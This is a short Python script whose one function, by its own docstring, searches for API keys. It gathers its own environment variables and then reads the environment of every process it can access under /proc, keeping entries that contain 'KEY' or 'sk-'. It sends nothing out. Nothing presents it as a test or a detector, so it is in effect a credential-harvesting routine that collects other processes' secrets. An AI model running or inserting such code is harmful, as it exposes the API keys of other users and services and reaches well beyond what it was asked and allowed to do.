import os


def main():
    """Look for API keys: own environment, then every /proc/<pid>/environ it can read."""
    found = [f"{k}={v}" for k, v in os.environ.items()]
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                data = f.read().decode("utf-8", "replace")
        except OSError:
            continue
        found += [e for e in data.split("\0") if "KEY" in e or "sk-" in e]
    return found
